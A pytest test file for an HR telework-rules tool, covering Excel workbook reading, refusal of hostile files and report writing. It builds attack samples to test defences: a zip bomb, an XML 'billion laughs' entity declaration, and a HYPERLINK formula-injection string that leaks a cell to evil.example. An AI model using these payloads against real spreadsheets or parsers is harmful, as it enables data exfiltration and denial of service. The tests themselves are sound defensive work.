"""Excel workbooks: reading a dataset, refusing hostile files, writing the report."""

from __future__ import annotations

import csv
import sys
import tempfile
import zipfile
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, datetime, time
from decimal import Decimal
from pathlib import Path

import attrs
import openpyxl  # type: ignore[import-untyped]
import pytest
from hypothesis import given
from hypothesis import strategies as st

from teleworkrules import (
    DatasetError,
    Employee,
    InvalidFactError,
    MaterialRequest,
    Month,
    Problem,
    load_dataset,
    load_sources,
)
from teleworkrules.exceptions import XlsxUnavailableError
from teleworkrules.facts import Dataset
from teleworkrules.inputs import RawTable, build_dataset, read_csv_folder, read_xlsx_tables
from teleworkrules.inputs import xlsx_files as reader_module
from teleworkrules.inputs.xlsx_files import INSTALL_HINT
from teleworkrules.outputs.report_data import DEFINITIONS
from teleworkrules.outputs.report_xlsx import write_report_xlsx
from teleworkrules.outputs.workbook import (
    COUNT_FORMAT,
    DATE_FORMAT,
    MONEY_FORMAT,
    PERCENT_FORMAT,
    cell_text,
)
from teleworkrules.results.report import Report, build_report
from teleworkrules.strategies import employees

from .xlsx_dump import dump_xlsx

ROOT = Path(__file__).parent.parent
Rows = Sequence[Sequence[object]]


# Tiny writers: the same tables as a workbook (typed cells) and as CSV files (text).


def write_xlsx(path: Path, tables: Mapping[str, Rows]) -> Path:
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for name, rows in tables.items():
        sheet = workbook.create_sheet(name)
        for row in rows:
            sheet.append(list(row))
    workbook.save(path)
    return path


def midnight(day: date) -> datetime:
    """A date cell as openpyxl reads it back."""
    return datetime.combine(day, time())


def _csv_text(value: object, column: str) -> str:
    if isinstance(value, date) and column == "month":
        return str(Month.from_date(value))
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, datetime):
        return value.date().isoformat()
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def write_csv(folder: Path, tables: Mapping[str, Rows]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, rows in tables.items():
        with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle, lineterminator="\n")
            header = [str(h) for h in rows[0]] if rows else []
            writer.writerows(
                [_csv_text(v, c) for v, c in zip(row, header, strict=False)] for row in rows
            )
    return folder


def from_xlsx(path: Path) -> Dataset:
    tables, problems, _ = read_xlsx_tables(path)
    assert [] == problems
    return build_dataset(tables, source=str(path))


def from_csv(folder: Path) -> Dataset:
    tables, problems, _ = read_csv_folder(folder)
    assert [] == problems
    return build_dataset(tables, source=str(folder))


def reading_problems(path: Path) -> list[Problem]:
    return read_xlsx_tables(path)[1]


def described(problems: Iterable[Problem]) -> list[tuple[str, int, str, str, str]]:
    """Each problem as table, row, column, value and what was expected (in English)."""
    return [(p.table, p.row, p.column, p.value, p.expected) for p in problems]


STAFF_HEADER = ["employee_id", "entity", "hire_date", "exit_date", "contract", "work_fraction"]


# (a) Round trips.


def test_a_workbook_gives_the_same_dataset_as_the_same_csv_files(tmp_path: Path) -> None:
    """A workbook with date cells and ISO text gives the same facts as the CSV files."""
    tables: dict[str, Rows] = {
        "staff": [
            [*STAFF_HEADER, "smartphone_role"],
            ["E1", "DWSE", date(2020, 1, 6), None, "statutory", 1, False],
            ["E2", None, midnight(date(2021, 10, 15)), date(2023, 6, 30), "contractual", 0.8, True],
            ["E3", "DWSE", "2023-04-17", "", "student", Decimal("0.5"), "ja"],
        ],
        "telework": [
            ["employee_id", "start", "end", "days_per_week", "approved"],
            ["E1", "2021-01-01", None, 2, True],
            ["E2", "2021-10-15", "2022-12-31", 2.5, "nee"],
            ["E2", date(2023, 1, 1), None, "0.5", None],
        ],
        "telework_days": [
            ["employee_id", "month", "days"],
            ["E2", "2023-03", 5],
            ["E2", date(2023, 4, 1), 3.25],
        ],
        "internet": [
            ["employee_id", "start", "end", "route"],
            ["E1", date(2021, 1, 1), "2022-06-30", "third_party"],
            ["E1", "2022-07-01", None, "forfait"],
        ],
        "absences": [
            ["employee_id", "start", "end", "salary_paid", "kind"],
            ["E1", date(2023, 2, 6), date(2023, 5, 12), False, "unpaid_leave"],
        ],
        "material_requests": [
            ["employee_id", "item", "requested_on", "cost"],
            ["E3", "chair", date(2023, 9, 1), 249.99],
            ["E1", "keyboard", "2022-05-02", None],
        ],
        "payments": [
            ["employee_id", "month", "allowance", "amount", "paid_on"],
            ["E1", "2023-01", "home_working", 20, date(2023, 10, 25)],
            ["E1", date(2023, 2, 1), "internet_forfait", "20.00", "2023-03"],
        ],
    }
    workbook = from_xlsx(write_xlsx(tmp_path / "hr.xlsx", tables))
    folder = from_csv(write_csv(tmp_path / "hr", tables))
    assert folder.employees == workbook.employees
    assert folder.material_requests == workbook.material_requests
    assert folder.payments == workbook.payments
    assert Decimal("249.99") == workbook.material_requests[0].cost
    assert date(2023, 6, 30) == workbook.employee("E2").exit_date


def _tables(
    people: Iterable[Employee], typed: st.DataObject | None
) -> dict[str, list[list[object]]]:
    """The tables of ``people``; with ``typed``, dates and numbers are drawn as cells or text."""

    def day(value: date | None) -> object:
        if value is None:
            return None
        return value if typed is not None and typed.draw(st.booleans()) else value.isoformat()

    def number(value: Decimal) -> object:
        return value if typed is not None and typed.draw(st.booleans()) else str(value)

    staff: list[list[object]] = [[*STAFF_HEADER, "smartphone_role"]]
    telework: list[list[object]] = [["employee_id", "start", "end", "days_per_week", "approved"]]
    days: list[list[object]] = [["employee_id", "month", "days"]]
    internet: list[list[object]] = [["employee_id", "start", "end", "route", "benefit_waived"]]
    absences: list[list[object]] = [["employee_id", "start", "end", "salary_paid", "kind"]]
    for e in people:
        staff.append(
            [
                e.employee_id,
                None,
                day(e.hire_date),
                day(e.exit_date),
                e.contract.value,
                number(e.work_fraction),
                e.smartphone_role,
            ]
        )
        for t in e.telework:
            telework.append(
                [e.employee_id, day(t.start), day(t.end), number(t.days_per_week), t.approved]
            )
        for d in e.telework_days:
            month = d.month.first_day if typed is not None and typed.draw(st.booleans()) else None
            days.append([e.employee_id, month or str(d.month), number(d.days)])
        for i in e.internet:
            internet.append(
                [e.employee_id, day(i.start), day(i.end), i.route.value, i.benefit_waived]
            )
        for a in e.absences:
            absences.append([e.employee_id, day(a.start), day(a.end), a.salary_paid, a.kind])
    return {
        "staff": staff,
        "telework": telework,
        "telework_days": days,
        "internet": internet,
        "absences": absences,
    }


@given(
    people=st.lists(employees(), min_size=1, max_size=4, unique_by=lambda e: e.employee_id),
    typed=st.data(),
)
def test_any_staff_reads_the_same_from_a_workbook_as_from_csv(
    people: list[Employee], typed: st.DataObject
) -> None:
    """Generated staff written as a workbook and as CSV files read back as the same staff."""
    with tempfile.TemporaryDirectory() as folder:
        workbook = from_xlsx(write_xlsx(Path(folder) / "hr.xlsx", _tables(people, typed)))
        text = from_csv(write_csv(Path(folder) / "csv", _tables(people, None)))
    assert sorted(people, key=lambda e: e.employee_id) == list(text.employees)
    assert text.employees == workbook.employees


def test_row_numbers_are_the_spreadsheet_rows_and_the_header_the_first_filled_row(
    tmp_path: Path,
) -> None:
    """Blank rows above the header are skipped, and problems name the row Excel shows."""
    path = write_xlsx(
        tmp_path / "hr.xlsx",
        {
            "staff": [
                [],
                [None, None],
                ["employee_id", "hire_date"],
                ["E1", date(2020, 1, 1)],
                [],
                ["E2", "2020-13-01"],
            ]
        },
    )
    tables, problems, _ = read_xlsx_tables(path)
    assert [] == problems
    assert [4, 6] == [number for number, _ in tables[0].rows]
    with pytest.raises(DatasetError) as info:
        build_dataset(tables, source="hr.xlsx")
    assert [("staff", 6, "hire_date")] == [(p.table, p.row, p.column) for p in info.value.problems]


def test_a_formula_without_a_cached_value_reads_as_an_empty_cell(tmp_path: Path) -> None:
    """A formula never calculated (no cached value) is an empty cell, here an open exit date."""
    path = write_xlsx(
        tmp_path / "hr.xlsx",
        {"staff": [["employee_id", "hire_date", "exit_date"], ["E1", "2020-01-01", "=B2+30"]]},
    )
    assert from_xlsx(path).employee("E1").exit_date is None


def test_sheet_names_are_matched_without_case_and_tables_come_in_contract_order(
    tmp_path: Path,
) -> None:
    """A sheet called 'Staff ' is the staff table."""
    path = write_xlsx(
        tmp_path / "hr.xlsx",
        {
            "Internet": [["employee_id", "start", "route"], ["E1", "2021-01-01", "forfait"]],
            "Staff ": [["employee_id", "hire_date"], ["E1", "2020-01-01"]],
        },
    )
    tables, _, _ = read_xlsx_tables(path)
    assert ["staff", "internet"] == [t.name for t in tables]


# (b) Hostile and broken input.


def test_a_file_that_is_no_zip_is_refused(tmp_path: Path) -> None:
    """A CSV file saved with the .xlsx name is a problem naming the file, not a crash."""
    path = tmp_path / "hr.xlsx"
    path.write_text("employee_id,hire_date\nE1,2020-01-01\n", encoding="utf-8")
    [problem] = reading_problems(path)
    assert ("hr.xlsx", "not_zip") == (problem.table, problem.measure)
    assert "Excel workbook (.xlsx)" in problem.expected
    assert problem.text("nl").startswith(
        "hr.xlsx: gevonden een bestand dat geen zip-archief is, verwacht een Excel-werkmap"
    )


def test_an_old_xls_workbook_is_refused_with_advice(tmp_path: Path) -> None:
    """An .xls (or password-protected) workbook is refused with the advice to save as .xlsx."""
    path = tmp_path / "hr.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    [problem] = reading_problems(path)
    assert ".xls" in problem.found_in("en")
    assert "save it as" in problem.expected
    assert problem.text("nl") == (
        "hr.xlsx: gevonden een oude .xls-werkmap of een met een wachtwoord beveiligde, "
        "verwacht een Excel-werkmap (.xlsx) zonder wachtwoord: bewaar als 'Excel-werkmap "
        "(.xlsx)'"
    )


def test_a_zip_that_is_no_workbook_is_refused(tmp_path: Path) -> None:
    """A zip archive without a workbook inside is a problem naming the file."""
    path = tmp_path / "hr.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "hello")
    [problem] = reading_problems(path)
    assert ("hr.xlsx", "a valid Excel workbook (.xlsx)") == (problem.table, problem.expected)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    """A part compressed more than 100 times and above 1 MB is refused, naming the part."""
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * 5_000_000)
    [problem] = reading_problems(path)
    assert problem.table == "bomb.xlsx"
    assert problem.found_in("en").startswith("xl/worksheets/sheet1.xml: 5,000,000 bytes compressed")
    assert problem.found_in("nl").startswith("xl/worksheets/sheet1.xml: 5.000.000 bytes, ")
    assert "zip bomb" in problem.expected


def test_a_workbook_unpacking_to_too_much_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A workbook whose parts add up to more than the limit is refused."""
    path = write_xlsx(tmp_path / "hr.xlsx", {"staff": [["employee_id", "hire_date"]]})
    monkeypatch.setattr(reader_module, "MAX_UNCOMPRESSED", 1_000)
    [problem] = reading_problems(path)
    assert ("", "unpacked") == (problem.value, problem.measure)
    assert problem.found_in("en").endswith(" bytes once unpacked")
    assert problem.found_in("nl").endswith(" bytes na uitpakken")
    assert "at most 1,000 bytes unpacked" in problem.expected
    assert "hoogstens 1.000 bytes uitgepakt" in problem.expected_in("nl")


def test_a_sheet_with_too_many_rows_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Past the row limit, reading the sheet stops with a problem naming the sheet."""
    rows = [["employee_id", "hire_date"]] + [[f"E{i}", "2020-01-01"] for i in range(5)]
    path = write_xlsx(tmp_path / "hr.xlsx", {"staff": rows})
    monkeypatch.setattr(reader_module, "MAX_ROWS", 3)
    tables, problems, _ = read_xlsx_tables(path)
    assert [] == tables
    assert [("staff", 4)] == [(p.table, p.row) for p in problems]
    assert "at most 3 rows" in problems[0].expected


def test_a_row_far_below_counts_against_the_row_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One cell on a far row cannot make the reader walk millions of empty rows."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "staff"
    sheet.append(["employee_id", "hire_date"])
    sheet.cell(row=50_000, column=1, value="E1")
    workbook.save(tmp_path / "hr.xlsx")
    monkeypatch.setattr(reader_module, "MAX_ROWS", 1_000)
    [problem] = reading_problems(tmp_path / "hr.xlsx")
    assert ("staff", 1_001) == (problem.table, problem.row)


def test_xml_entities_are_refused_by_defusedxml(tmp_path: Path) -> None:
    """A sheet declaring XML entities (a 'billion laughs') is refused, not expanded."""
    path = write_xlsx(tmp_path / "ok.xlsx", {"staff": [["employee_id", "hire_date"]]})
    hostile = tmp_path / "laughs.xlsx"
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(hostile, "w") as target:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                doctype = b'<!DOCTYPE worksheet [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
                data = doctype + data.replace(b"<dimension", b"<dimension x='&b;'", 1)
            target.writestr(member, data)
    [problem] = reading_problems(hostile)
    assert problem.table == "laughs.xlsx"
    assert "EntitiesForbidden" in problem.value


def test_a_number_in_the_header_is_a_problem(tmp_path: Path) -> None:
    """Header cells must be text: a year or a date there is a problem naming the cell."""
    path = write_xlsx(
        tmp_path / "hr.xlsx",
        {"staff": [["employee_id", 2023, date(2023, 1, 1)], ["E1", "x", "y"]]},
    )
    tables, problems, _ = read_xlsx_tables(path)
    assert [] == tables
    assert [("staff", 1, "B", "2023"), ("staff", 1, "C", "2023-01-01 00:00:00")] == [
        (p.table, p.row, p.column, p.value) for p in problems
    ]


def test_a_spreadsheet_error_value_is_a_problem(tmp_path: Path) -> None:
    """A cell holding #DIV/0! is reported with its row and column, and its row is not used."""
    path = write_xlsx(
        tmp_path / "hr.xlsx",
        {
            "staff": [
                ["employee_id", "hire_date", "work_fraction"],
                ["E1", "2020-01-01", "#DIV/0!"],
                ["E2", "2020-01-01", 1],
            ]
        },
    )
    tables, problems, _ = read_xlsx_tables(path)
    assert [
        ("staff", 2, "work_fraction", "#DIV/0!", "a value, not a spreadsheet error")
    ] == described(problems)
    assert [3] == [number for number, _ in tables[0].rows]


def test_an_unknown_sheet_is_a_problem_naming_it(tmp_path: Path) -> None:
    """A sheet that is no table of the contract is a problem, with the names to use."""
    path = write_xlsx(
        tmp_path / "hr.xlsx",
        {"staff": [["employee_id", "hire_date"], ["E1", "2020-01-01"]], "Notes": [["hello"]]},
    )
    tables, problems, notes = read_xlsx_tables(path)
    assert (["staff"], []) == ([t.name for t in tables], notes)
    assert [
        (
            "hr.xlsx",
            0,
            "",
            "Notes",
            "a sheet named after a table: staff, telework, telework_days, internet, absences, "
            "material_requests, payments; or in Dutch: personeel, thuiswerk, thuiswerkdagen, "
            "internet, afwezigheden, materiaalaanvragen, betalingen",
        )
    ] == described(problems)


def test_a_workbook_without_a_staff_sheet_fails_validation(tmp_path: Path) -> None:
    """Without a staff sheet the dataset is invalid: the staff table is required."""
    path = write_xlsx(
        tmp_path / "hr.xlsx",
        {"internet": [["employee_id", "start", "route"], ["E1", "2021-01-01", "forfait"]]},
    )
    tables, problems, _ = read_xlsx_tables(path)
    assert [] == problems
    with pytest.raises(DatasetError) as info:
        build_dataset(tables, source=str(path))
    assert ("staff", 0, "", "", "a staff table (the only required table)") in described(
        info.value.problems
    )


def test_an_empty_staff_sheet_is_a_problem(tmp_path: Path) -> None:
    """A sheet without any row has no header: a problem naming the table."""
    path = write_xlsx(tmp_path / "hr.xlsx", {"staff": []})
    [problem] = reading_problems(path)
    assert [("staff", 0, "", "", "a header row naming the columns")] == described([problem])
    assert ("an empty sheet", "een leeg blad") == (problem.found_in("en"), problem.found_in("nl"))


def test_a_formula_staff_id_cannot_pass_validation(tmp_path: Path) -> None:
    """A staff id such as =HYPERLINK(...) in a text cell is refused by validation."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "staff"
    sheet.append(["employee_id", "hire_date"])
    sheet.append([None, "2020-01-01"])
    sheet["A2"].value = '=HYPERLINK("http://evil.example", "E1")'
    sheet["A2"].data_type = "s"  # a text cell, not a formula
    workbook.save(tmp_path / "hr.xlsx")
    tables, _, _ = read_xlsx_tables(tmp_path / "hr.xlsx")
    with pytest.raises(DatasetError) as info:
        build_dataset(tables, source="hr.xlsx")
    assert [("staff", 2, "employee_id")] == [
        (p.table, p.row, p.column) for p in info.value.problems
    ]


def test_without_openpyxl_the_error_says_how_to_install_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without openpyxl, reading and writing say: install the Excel extra."""
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    with pytest.raises(XlsxUnavailableError, match="pip install 'teleworkrules\\[xlsx\\]'"):
        read_xlsx_tables(tmp_path / "hr.xlsx")
    with pytest.raises(XlsxUnavailableError) as info:
        write_report_xlsx(small_report(), tmp_path / "report.xlsx")
    assert INSTALL_HINT in str(info.value)
    assert "install the Excel extra with `pip install 'teleworkrules[xlsx]'`" == INSTALL_HINT
    with pytest.raises(XlsxUnavailableError):
        dump_xlsx(tmp_path / "report.xlsx")
    assert [] == list(tmp_path.iterdir())


def test_without_defusedxml_workbooks_are_not_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """If openpyxl would parse without defusedxml, reading refuses to start."""
    path = write_xlsx(tmp_path / "hr.xlsx", {"staff": [["employee_id", "hire_date"]]})
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    with pytest.raises(XlsxUnavailableError, match="defusedxml"):
        read_xlsx_tables(path)


# (c) The report workbook.


def small_report(*requests: MaterialRequest) -> Report:
    dataset = load_dataset(ROOT / "examples" / "small")
    if requests:
        dataset = attrs.evolve(dataset, material_requests=requests)
    return build_report(dataset, Month("2021-01"), Month("2023-10"), known_on=date(2023, 11, 8))


EVIL = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'
REQUESTS = (
    MaterialRequest("E003", "chair", date(2023, 5, 2), Decimal("249.99")),
    MaterialRequest("E001", "keyboard", date(2022, 3, 1), Decimal("19.95")),
    # Built in code, so not validated: an item that reads like a formula.
    MaterialRequest("E001", EVIL, date(2022, 3, 1)),
)
SHEETS_NL = [
    "Antwoord",
    "1a Personeel",
    "1b Kosten",
    "2a Budgetten",
    "2b Materiaal",
    "2b Niet conform",
    "Definities",
]
SHEETS_EN = [
    "Answer",
    "1a Staff",
    "1b Cost",
    "2a Budgets",
    "2b Material",
    "2b Not conforming",
    "Definitions",
]


@pytest.fixture(scope="module")
def report() -> Report:
    return small_report(*REQUESTS)


@pytest.fixture(scope="module")
def workbook_nl(report: Report, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("report") / "antwoord.xlsx"
    write_report_xlsx(report, path)
    return path


def row_of(sheet: openpyxl.worksheet.worksheet.Worksheet, label: str) -> list[object]:
    for row in sheet.iter_rows(values_only=True):
        if row[0] == label:
            return list(row[1:])
    raise AssertionError(f"no row {label!r}")


def test_the_report_has_one_sheet_per_question_in_dutch_by_default(workbook_nl: Path) -> None:
    """The workbook has the answer, the sheets 1a, 1b, 2a, 2b and the definitions, in Dutch."""
    assert SHEETS_NL == openpyxl.load_workbook(workbook_nl).sheetnames


def test_the_report_can_be_written_in_english(report: Report, tmp_path: Path) -> None:
    """With lang='en' the sheets and labels are English."""
    write_report_xlsx(report, tmp_path / "answer.xlsx", lang="en")
    workbook = openpyxl.load_workbook(tmp_path / "answer.xlsx")
    assert SHEETS_EN == workbook.sheetnames
    assert [3, 3, 5] == row_of(workbook["1a Staff"], "staff in service")[:3]


def test_an_unknown_language_is_refused(report: Report, tmp_path: Path) -> None:
    """Only nl and en are offered."""
    with pytest.raises(InvalidFactError):
        write_report_xlsx(report, tmp_path / "x.xlsx", lang="fr")
    assert [] == list(tmp_path.iterdir())


def test_every_sheet_has_a_title_with_period_entity_and_known_on_date(workbook_nl: Path) -> None:
    """The first row says the period, the entity and the 'as known on' date."""
    workbook = openpyxl.load_workbook(workbook_nl)
    expected = "Ondersteuning telewerk 2021-01..2023-10, zoals gekend op 2023-11-08 (DWSE)"
    assert [expected] * len(SHEETS_NL) == [sheet["A1"].value for sheet in workbook.worksheets]
    assert all(sheet["A1"].font.b for sheet in workbook.worksheets)


def test_counts_and_shares_on_sheet_1a_are_numbers(report: Report, workbook_nl: Path) -> None:
    """Counts are whole numbers and shares fractions formatted as percentages."""
    sheet = openpyxl.load_workbook(workbook_nl)["1a Personeel"]
    years = report.years
    assert [2021, 2022, 2023] == row_of(sheet, "jaar")[:3]
    assert [y.staff for y in years] == row_of(sheet, "personeel in dienst")[:3]
    assert [y["internet_forfait"].persons for y in years] == row_of(
        sheet, "internet forfait: personen"
    )[:3]
    staff_cells = sheet["B6:D6"][0]
    assert all(c.data_type == "n" and c.number_format == COUNT_FORMAT for c in staff_cells)
    share = sheet["D13"]  # below the persons with either internet route (rows 8-11)
    assert ("% van personeel in dienst", PERCENT_FORMAT) == (
        sheet["A13"].value,
        share.number_format,
    )
    assert pytest.approx(float(years[2].share("internet_forfait") or 0) / 100) == share.value
    assert "B6" == sheet.freeze_panes
    assert sheet["B4"].font.b


def test_money_on_sheet_1b_is_numbers_in_euro(report: Report, workbook_nl: Path) -> None:
    """Amounts are numeric cells with the euro format, equal to the report's amounts."""
    sheet = openpyxl.load_workbook(workbook_nl)["1b Kosten"]
    employer = row_of(sheet, "internet derdebetaler, werkgeverskost (1)")[:3]
    expected = [y["internet_third_party"].employer_cost for y in report.years]
    assert expected == [Decimal(str(v)).quantize(Decimal("0.01")) for v in employer]
    money = [c for row in sheet["B7:D10"] for c in row]  # row 6 heads the accrual block
    assert all(isinstance(c.value, int | float) for c in money)
    assert {MONEY_FORMAT} == {c.number_format for c in money}


def test_each_question_sheet_has_a_bar_chart_below_its_table(workbook_nl: Path) -> None:
    """A native bar chart per year on 1a, 1b, 2a and 2b, in column A under the table."""
    workbook = openpyxl.load_workbook(workbook_nl)
    charts = {sheet.title: [type(c).__name__ for c in sheet._charts] for sheet in workbook}
    assert {name: ["BarChart"] for name in SHEETS_NL[1:5]} == {
        name: kinds for name, kinds in charts.items() if kinds
    }
    dump = dump_xlsx(workbook_nl)
    assert "chart: BarChart 'Personen per vergoeding en jaar' at A27" in dump
    assert "chart: BarChart 'Kosten per jaar, transactiebasis (EUR)' at A22" in dump


def test_budgets_have_their_kind_and_a_total(report: Report, workbook_nl: Path) -> None:
    """Sheet 2a lists each budget with structural or one-off and a yearly total."""
    sheet = openpyxl.load_workbook(workbook_nl)["2a Budgetten"]
    kinds = {row[0]: row[5] for row in sheet.iter_rows(min_row=5, values_only=True) if row[5]}
    assert "eenmalig" == kinds["Beeldschermen (eenmalig)"]
    assert "structureel" == kinds["Aankoop laptops (structureel, per jaar)"]
    totals = row_of(sheet, "totaal")[0:3]
    assert [sum(b.amount for b in y.budgets) for y in report.years] == [
        Decimal(str(t)) for t in totals
    ]


def test_material_lists_items_and_each_refused_request_with_reasons(workbook_nl: Path) -> None:
    """Sheet 2b has figures per item and year; the next sheet each refused request's reasons."""
    workbook = openpyxl.load_workbook(workbook_nl)
    sheet = workbook["2b Materiaal"]
    assert [None, 1, None] == row_of(sheet, "Toetsenbord")[:3]  # the persons, first block
    rows = [list(r) for r in workbook["2b Niet conform"].iter_rows(min_row=5, values_only=True)]
    refused = {r[2]: r for r in rows if isinstance(r[3], datetime)}
    chair = refused["Ergonomische bureaustoel (NBN EN 1335)"]
    assert (2023, "E003", midnight(date(2023, 5, 2)), 249.99) == tuple(chair[:2] + chair[3:5])
    assert "Vereist 6 maanden in dienst" in chair[5]
    refused_sheet = workbook["2b Niet conform"]
    date_cell = next(
        c for row in refused_sheet.iter_rows() for c in row if isinstance(c.value, datetime)
    )
    assert DATE_FORMAT == date_cell.number_format


def test_text_starting_with_a_formula_character_is_neutralised(workbook_nl: Path) -> None:
    """A text starting with = is written as a text cell with a leading quote, never a formula."""
    workbook = openpyxl.load_workbook(workbook_nl)
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value]
    assert [] == [c.coordinate for c in cells if c.data_type == "f"]
    evil = [c for c in cells if isinstance(c.value, str) and EVIL in c.value]
    assert len(evil) == 6  # the item in 2b's four blocks, item and reason in the refused list
    assert all(c.value.startswith("'=") and c.data_type == "s" for c in evil)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 2 555", "'+31 2 555"),
        ("-5", "-5"),  # a plain number (a recovery) is no formula
        ("-20.00", "-20.00"),
        ("-5+A1", "'-5+A1"),
        ("-", "'-"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("E001", "E001"),
        ("a = b", "a = b"),
        ("'quoted", "'quoted"),
        ("", ""),
        ("bell\x07", "bell\ufffd"),
    ],
)
def test_the_escaping_helper(text: str, written: str) -> None:
    """Formula starts get a leading quote; control characters a workbook cannot hold go."""
    assert written == cell_text(text)


def test_definitions_and_sources_are_in_the_workbook(workbook_nl: Path) -> None:
    """Every definition (in Dutch) and every legal source with its URL is listed."""
    sheet = openpyxl.load_workbook(workbook_nl)["Definities"]
    texts = {c.value for row in sheet.iter_rows() for c in row}
    pairs = {
        f"{row[0].value}: {row[1].value[:1].lower()}{row[1].value[1:]}"
        for row in sheet.iter_rows()
        if isinstance(row[0].value, str) and isinstance(row[1].value, str)
    }  # each definition's term, then what it means
    assert {d["nl"] for d in DEFINITIONS.values()} <= pairs
    assert {s.url for s in load_sources().values()} <= texts
    assert {s.title("nl") for s in load_sources().values()} <= texts


def test_the_dump_is_deterministic(report: Report, tmp_path: Path) -> None:
    """Two writes of one report dump to the same text, for golden files."""
    write_report_xlsx(report, tmp_path / "a.xlsx")
    write_report_xlsx(report, tmp_path / "b.xlsx")
    dump = dump_xlsx(tmp_path / "a.xlsx")
    assert dump == dump_xlsx(tmp_path / "b.xlsx")
    assert "== 1b Kosten\nfreeze: B6\n" in dump
    assert 'B7: 240 ["EUR" #,##0.00]' in dump


def test_a_failure_mid_write_leaves_no_file(
    report: Report, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """If writing fails half-way, neither the workbook nor a temporary file is left."""
    writes = []

    def fail_on_third(self: object, ws: object) -> None:
        writes.append(ws)
        if len(writes) == 3:
            raise OSError("disk full")
        original(self, ws)

    original = openpyxl.writer.excel.ExcelWriter.write_worksheet
    monkeypatch.setattr(openpyxl.writer.excel.ExcelWriter, "write_worksheet", fail_on_third)
    with pytest.raises(OSError, match="disk full"):
        write_report_xlsx(report, tmp_path / "antwoord.xlsx")
    assert [] == list(tmp_path.iterdir())


def test_a_failure_mid_write_keeps_the_previous_file(
    report: Report, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A failed rewrite leaves the earlier workbook untouched."""
    path = tmp_path / "antwoord.xlsx"
    path.write_bytes(b"previous")

    def fail(self: object, ws: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(openpyxl.writer.excel.ExcelWriter, "write_worksheet", fail)
    with pytest.raises(OSError, match="disk full"):
        write_report_xlsx(report, path)
    assert [path] == list(tmp_path.iterdir())
    assert b"previous" == path.read_bytes()


def test_a_report_read_from_a_workbook_dataset(tmp_path: Path) -> None:
    """A dataset read from a workbook gives the same report as the CSV example."""
    folder = ROOT / "examples" / "small"
    tables: dict[str, Rows] = {}
    for table in read_csv_folder(folder)[0]:
        tables[table.name] = [list(table.header), *(list(cells) for _, cells in table.rows)]
    workbook = from_xlsx(write_xlsx(tmp_path / "small.xlsx", tables))
    expected = small_report()
    actual = build_report(workbook, Month("2021-01"), Month("2023-10"), known_on=date(2023, 11, 8))
    assert expected.years == actual.years


def test_raw_tables_keep_typed_cells(tmp_path: Path) -> None:
    """Cells pass through with their type: text, numbers, dates and booleans."""
    path = write_xlsx(
        tmp_path / "hr.xlsx",
        {
            "staff": [
                ["employee_id", "hire_date", "work_fraction", "smartphone_role"],
                ["E1", date(2020, 1, 1), 0.5, True],
            ]
        },
    )
    [table] = read_xlsx_tables(path)[0]
    assert (
        RawTable(
            "staff",
            f"{path} (sheet staff)",
            ("employee_id", "hire_date", "work_fraction", "smartphone_role"),
            [(2, ("E1", midnight(date(2020, 1, 1)), 0.5, True))],
            written="staff",
        )
        == table
    )


def test_the_dump_refuses_what_the_reader_refuses(tmp_path: Path) -> None:
    """dump_xlsx checks the archive as the dataset reader does."""
    path = tmp_path / "report.xlsx"
    path.write_text("not a workbook", encoding="utf-8")
    with pytest.raises(DatasetError, match="not a zip archive"):
        dump_xlsx(path)
